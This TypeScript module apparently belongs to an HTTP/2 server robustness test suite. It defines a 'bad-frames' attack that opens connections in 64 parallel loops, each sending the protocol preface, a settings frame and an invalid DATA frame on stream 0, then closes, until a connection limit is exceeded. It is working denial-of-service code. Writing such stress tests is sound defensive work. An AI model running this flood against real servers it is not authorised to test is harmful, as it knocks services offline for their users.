import { isOver, rest, together, type Attack } from '../attack.js';
import { openSocket } from '../peer.js';
import { frame, frameType, preface, settingsFrame } from '../wire.js';

// More than there is room for by default.
const count = 4300;
/** DATA on stream 0 is an error of the connection. */
const bad = frame({ type: frameType.data, flags: 0, stream: 0 }, Buffer.alloc(8));

/** Connections that end in an error, each after 40 bytes. */
export const badFrames: Attack = {
  name: 'bad-frames',
  what: 'connections that send one bad frame and close, without end',
  by: 'stranger',
  enough: { what: 'connections', count },
  run: (context) =>
    together(64, async () => {
      while (!isOver(context)) {
        const socket = await openSocket(context.target);
        if (socket === undefined) {
          context.count('refused');
          await rest(context, 5);
          continue;
        }
        context.count('connections');
        socket.write(Buffer.concat([preface, settingsFrame(), bad]));
        socket.destroySoon();
      }
    }),
};
